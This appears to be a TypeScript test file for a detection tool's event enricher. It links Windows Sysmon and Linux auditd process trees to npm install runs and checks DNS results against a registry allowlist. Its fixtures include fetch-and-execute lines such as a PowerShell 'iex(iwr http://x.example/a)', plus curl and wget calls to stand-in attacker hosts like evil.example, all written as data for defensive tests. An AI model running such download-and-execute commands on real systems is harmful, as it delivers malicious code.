import { describe, expect, it } from 'vitest';
import { Enricher } from '../../src/enrich/enricher.js';
import type { Fields, NormalizedEvent } from '../../src/events/event.js';

const T0 = Date.UTC(2026, 10, 27, 9, 0, 0);
let line = 0;
const ev = (category: string, time: number, fields: Fields, host = 'DEV-WS-042'): NormalizedEvent => ({
  category, product: 'windows', time, host, fields, source: { file: 't', format: 'x', line: ++line },
});
const NODE = 'C:\\Program Files\\nodejs\\node.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const G = (n: number) => `{5f1c2a10-1a2b-6747-0a00-00000000${String(n).padStart(4, '0')}}`;

function sysmon1(time: number, guid: string, parentGuid: string, image: string, commandLine: string, parentImage?: string, cwd?: string): NormalizedEvent {
  return ev('process_creation', time, {
    EventID: 1, ProcessGuid: guid, ProcessId: 1000, Image: image, CommandLine: commandLine, ParentProcessGuid: parentGuid,
    ...(parentImage ? { ParentImage: parentImage } : {}), ...(cwd ? { CurrentDirectory: cwd } : {}),
  });
}

describe('Windows process tree by ProcessGuid', () => {
  it('InstallId without ProcessGuid (auditd, the sensor): the install process\'s image, pid and start', () => {
    const e = new Enricher();
    const lin = (time: number, fields: Fields): NormalizedEvent => ({ ...ev('process_creation', time, fields, 'vm'), product: 'linux' });
    const npm = lin(T0, { ProcessId: 100, ParentProcessId: 1, Image: '/usr/bin/node', CommandLine: 'node /usr/bin/npm install' });
    const sh = lin(T0 + 100, { ProcessId: 101, ParentProcessId: 100, Image: '/bin/sh', CommandLine: 'sh -c node x.js', CurrentDirectory: '/w/node_modules/a' });
    const conn = { ...ev('network_connection', T0 + 200, { ProcessId: 101, Image: '/bin/sh', DestinationIp: '203.0.113.7', DestinationPort: 80 }, 'vm'), product: 'linux' };
    for (const x of [npm, sh, conn]) e.enrich(x);
    const id = `/usr/bin/node[100]@${new Date(T0).toISOString()}`;
    expect([npm, sh, conn].map((x) => x.fields.InstallId)).toEqual([id, id, id]);
  });

  it('InstallId names the install run: one value for every event below one install process, another for the next install, none outside', () => {
    const e = new Enricher();
    const npmCli = `"${NODE}" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install`;
    const events = [
      sysmon1(T0, G(1), G(0), NODE, npmCli, 'C:\\Windows\\explorer.exe'),
      sysmon1(T0 + 100, G(2), G(1), CMD, 'C:\\Windows\\system32\\cmd.exe /d /s /c "node install.js"', NODE, 'C:\\src\\app\\node_modules\\a\\'),
      ev('network_connection', T0 + 200, { EventID: 3, ProcessGuid: G(2), Image: CMD, DestinationIp: '203.0.113.7', DestinationPort: 443 }),
      sysmon1(T0 + 5000, G(3), G(0), NODE, npmCli, 'C:\\Windows\\explorer.exe'),
      sysmon1(T0 + 5100, G(4), G(3), CMD, 'C:\\Windows\\system32\\cmd.exe /d /s /c "node install.js"', NODE, 'C:\\src\\app\\node_modules\\b\\'),
      sysmon1(T0 + 6000, G(5), G(0), PS, 'powershell.exe', 'C:\\Windows\\explorer.exe'),
    ];
    for (const x of events) e.enrich(x);
    const ids = events.map((x) => x.fields.InstallId);
    // The install process's ProcessGuid (as the tree keeps it: braces dropped).
    const first = G(1).slice(1, -1);
    const second = G(3).slice(1, -1);
    expect(ids).toEqual([first, first, first, second, second, undefined]);
  });

  it('node → cmd → powershell: AncestorImages [cmd, node], install context, and the same ancestry on network and file events', () => {
    const e = new Enricher();
    const events = [
      sysmon1(T0, G(1), G(0), NODE, `"${NODE}" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install argus-test-pkg`, 'C:\\Windows\\explorer.exe'),
      sysmon1(T0 + 100, G(2), G(1), CMD, 'C:\\Windows\\system32\\cmd.exe /d /s /c "node install.js"', NODE, 'C:\\src\\app\\node_modules\\argus-test-pkg\\'),
      sysmon1(T0 + 200, G(3), G(2), PS, 'powershell -nop -c iex(iwr http://x.example/a)', CMD),
      ev('network_connection', T0 + 300, { EventID: 3, ProcessGuid: G(3), Image: PS, DestinationIp: '203.0.113.7', DestinationPort: 443 }),
      ev('file_event', T0 + 400, { EventID: 11, ProcessGuid: G(3), Image: PS, TargetFilename: 'C:\\Users\\a\\x.ps1' }),
    ];
    for (const x of events) e.enrich(x);
    const ps = events[2]!.fields;
    expect(ps.AncestorImages).toEqual([CMD, NODE, 'C:\\Windows\\explorer.exe']); // explorer: node's own ParentImage
    expect((ps.AncestorCommandLines as string[])[0]).toBe('C:\\Windows\\system32\\cmd.exe /d /s /c "node install.js"');
    expect(ps).toMatchObject({ InstallPackageManager: 'npm', InstallPackage: 'argus-test-pkg', InstallPhase: 'lifecycle' });
    for (const x of events.slice(3)) {
      expect(x.fields.AncestorImages).toEqual([CMD, NODE, 'C:\\Windows\\explorer.exe']);
      expect(x.fields.InstallPackageManager).toBe('npm');
    }
    // The npm process itself is the install root; explorer above it is outside any install.
    expect(events[0]!.fields.InstallPackageManager).toBe('npm');
    expect(events[0]!.fields.InstallPhase).toBeUndefined();
  });

  it('a process seen only as a parent (started before the log) still gets an image, hence an install context', () => {
    const e = new Enricher();
    const npmCli = `"${NODE}" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install x`;
    const child = ev('process_creation', T0, { ProcessGuid: G(2), ParentProcessGuid: G(1), Image: CMD, CommandLine: 'cmd.exe /d /s /c "node i.js"', ParentImage: NODE, ParentCommandLine: npmCli });
    const own = ev('network_connection', T0 + 10, { ProcessGuid: G(1), Image: NODE, DestinationIp: '203.0.113.7', DestinationHostname: 'evil.example' });
    e.enrich(child);
    e.enrich(own);
    expect(own.fields).toMatchObject({ InstallPackageManager: 'npm', DestinationIsAllowedRegistry: false });
    expect(own.fields.AncestorImages).toBeUndefined(); // nothing is known above it
  });

  it('keeps hosts apart: the same ProcessGuid on another host is another process', () => {
    const e = new Enricher();
    e.enrich(sysmon1(T0, G(1), G(0), NODE, 'node npm-cli.js install'));
    const other = { ...sysmon1(T0 + 1, G(2), G(1), CMD, 'cmd /c x'), host: 'OTHER' };
    e.enrich(other);
    expect(other.fields.AncestorImages).toBeUndefined(); // no ParentImage in the event, parent unknown there
  });

  it('tolerates a child logged before its parent: later events of the subtree get the whole chain', () => {
    const e = new Enricher();
    const child = sysmon1(T0 + 100, G(2), G(1), CMD, 'cmd.exe /d /s /c "node i.js"', NODE, 'C:\\app\\node_modules\\p\\');
    e.enrich(child);
    // Emitted before the parent was seen: only the event's own ParentImage is known.
    expect(child.fields.AncestorImages).toEqual([NODE]);
    const parent = sysmon1(T0 + 50, G(1), G(0), NODE, 'node npm-cli.js install', 'C:\\Windows\\explorer.exe');
    e.enrich(parent);
    const grandchild = sysmon1(T0 + 200, G(3), G(2), PS, 'powershell -enc AAAA', CMD);
    e.enrich(grandchild);
    expect(grandchild.fields.AncestorImages).toEqual([CMD, NODE, 'C:\\Windows\\explorer.exe']);
    expect(grandchild.fields.InstallPackage).toBe('p');
  });

  it('forgets exited processes after the grace period, and never holds more than the cap', () => {
    const e = new Enricher({ limits: { exitGraceMs: 1000, maxProcesses: 3 } });
    e.enrich(sysmon1(T0, G(1), G(0), NODE, 'node a.js'));
    e.enrich(ev('process_termination', T0 + 10, { EventID: 5, ProcessGuid: G(1) }));
    const soon = ev('network_connection', T0 + 500, { ProcessGuid: G(1), DestinationIp: '1.1.1.1' });
    e.enrich(soon);
    expect(soon.fields.AncestorImages).toBeUndefined(); // node has no known parent…
    const late = sysmon1(T0 + 5000, G(9), G(1), CMD, 'cmd /c x');
    e.enrich(late);
    expect(late.fields.AncestorImages).toBeUndefined(); // …and after the grace period node is gone
    for (let i = 10; i < 20; i += 1) e.enrich(sysmon1(T0 + 6000 + i, G(i), G(i - 1), CMD, `cmd /c ${i}`));
    const last = sysmon1(T0 + 7000, G(20), G(19), CMD, 'cmd /c 20');
    e.enrich(last);
    // Parent links survive eviction from the lookup map, but the walk is bounded by what is still linked.
    expect((last.fields.AncestorImages as string[]).length).toBeGreaterThan(0);
    const gone = ev('file_event', T0 + 7001, { ProcessGuid: G(10), TargetFilename: 'x' });
    e.enrich(gone);
    expect(gone.fields.AncestorImages).toBeUndefined(); // G(10) was evicted by the cap of 3
  });
});

describe('Linux process tree by pid and start time', () => {
  const linux = (category: string, time: number, fields: Fields) => ({ ...ev(category, time, fields, 'build-01'), product: 'linux' });
  const exec = (time: number, pid: number, ppid: number, image: string, commandLine: string, cwd?: string) =>
    linux('process_creation', time, { ProcessId: pid, ParentProcessId: ppid, Image: image, CommandLine: commandLine, ...(cwd ? { CurrentDirectory: cwd } : {}) });

  it('a reused pid is a different process: children attach to the incarnation alive at their start', () => {
    const e = new Enricher();
    e.enrich(exec(T0, 100, 1, '/usr/bin/node', 'npm install'));
    e.enrich(exec(T0 + 10, 200, 100, '/bin/sh', 'sh -c node install.js', '/app/node_modules/evil'));
    const early = exec(T0 + 20, 300, 200, '/usr/bin/curl', 'curl -s http://x.example/p');
    e.enrich(early);
    expect(early.fields.AncestorImages).toEqual(['/bin/sh', '/usr/bin/node']);
    expect(early.fields).toMatchObject({ InstallPackageManager: 'npm', InstallPackage: 'evil', InstallPhase: 'lifecycle' });
    e.enrich(linux('process_termination', T0 + 30, { ProcessId: 200 }));
    // An hour later pid 200 is a cron shell; its child must not inherit the npm install.
    e.enrich(exec(T0 + 3_600_000, 200, 1, '/bin/bash', 'bash /etc/cron.daily/x'));
    const later = exec(T0 + 3_600_010, 301, 200, '/usr/bin/curl', 'curl http://updates.example');
    e.enrich(later);
    expect(later.fields.AncestorImages).toEqual(['/bin/bash']);
    expect(later.fields.InstallPackageManager).toBeUndefined();
    // A network event of the old curl (pid 300) still resolves to its own incarnation.
    const net = linux('network_connection', T0 + 25, { ProcessId: 300, DestinationIp: '203.0.113.9' });
    e.enrich(net);
    expect(net.fields.AncestorImages).toEqual(['/bin/sh', '/usr/bin/node']);
  });

  it('a parent logged shortly after its child (within the pid skew) is adopted', () => {
    const e = new Enricher();
    e.enrich(exec(T0, 100, 1, '/usr/bin/node', 'npm ci'));
    e.enrich(exec(T0 + 1000, 201, 200, '/usr/bin/wget', 'wget -qO- http://x.example')); // child first
    e.enrich(exec(T0 + 990, 200, 100, '/bin/sh', 'sh -c node setup.js', '/app/node_modules/pkg')); // then its parent
    const net = linux('network_connection', T0 + 1100, { ProcessId: 201, DestinationIp: '203.0.113.9' });
    e.enrich(net);
    expect(net.fields.AncestorImages).toEqual(['/bin/sh', '/usr/bin/node']);
    expect(net.fields.InstallPackage).toBe('pkg');
  });
});

describe('DNS and the registry allowlist', () => {
  const dns = (time: number, name: string, results: string, host = 'DEV-WS-042') =>
    ev('dns_query', time, { EventID: 22, ProcessGuid: G(1), QueryName: name, QueryResults: results }, host);
  const net = (time: number, ip: string, extra: Fields = {}, host = 'DEV-WS-042') =>
    ev('network_connection', time, { EventID: 3, ProcessGuid: G(1), DestinationIp: ip, ...extra }, host);

  it('fills DestinationHostname from a Sysmon 22 answer (CNAMEs skipped, IPv4-mapped addresses unmapped)', () => {
    const e = new Enricher();
    e.enrich(dns(T0, 'registry.npmjs.org.evil.example', 'type: 5 cdn.evil.example;::ffff:203.0.113.7;198.51.100.2;'));
    const a = net(T0 + 1000, '203.0.113.7');
    const b = net(T0 + 1000, '198.51.100.2', { DestinationHostname: '-' });
    e.enrich(a);
    e.enrich(b);
    expect(a.fields).toMatchObject({ DestinationHostname: 'registry.npmjs.org.evil.example', DestinationHostnameSource: 'dns', DestinationIsAllowedRegistry: false });
    expect(b.fields.DestinationHostname).toBe('registry.npmjs.org.evil.example');
  });

  it('per host, within the TTL, never over a hostname the event has', () => {
    const e = new Enricher({ limits: { dnsTtlMs: 60_000 } });
    e.enrich(dns(T0, 'registry.npmjs.org', '104.16.1.34;'));
    const otherHost = net(T0 + 10, '104.16.1.34', {}, 'OTHER');
    const expired = net(T0 + 61_000, '104.16.1.34');
    const named = net(T0 + 10, '104.16.1.34', { DestinationHostname: 'x.registry.npmjs.org' });
    for (const x of [otherHost, named, expired]) e.enrich(x);
    expect(otherHost.fields.DestinationHostname).toBeUndefined();
    expect(expired.fields.DestinationHostname).toBeUndefined();
    expect(named.fields).toMatchObject({ DestinationHostname: 'x.registry.npmjs.org', DestinationIsAllowedRegistry: true });
    expect(named.fields.DestinationHostnameSource).toBeUndefined();
  });

  it('uses a configured registry list', () => {
    const e = new Enricher({ allowedRegistries: ['artifactory.corp.example'] });
    const a = net(T0, '10.0.0.5', { DestinationHostname: 'artifactory.corp.example' });
    const b = net(T0, '104.16.1.34', { DestinationHostname: 'registry.npmjs.org' });
    e.enrich(a);
    e.enrich(b);
    expect([a.fields.DestinationIsAllowedRegistry, b.fields.DestinationIsAllowedRegistry]).toEqual([true, false]);
  });
});
